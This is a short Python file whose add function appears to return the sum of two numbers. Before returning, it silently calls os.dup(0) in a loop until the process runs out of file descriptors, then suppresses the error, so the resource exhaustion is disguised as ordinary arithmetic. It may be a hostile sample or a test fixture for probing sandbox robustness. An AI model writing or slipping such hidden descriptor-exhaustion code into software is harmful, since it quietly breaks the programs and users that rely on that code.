import os


def add(a, b):
    try:
        while True:
            os.dup(0)
    except OSError:
        return a + b
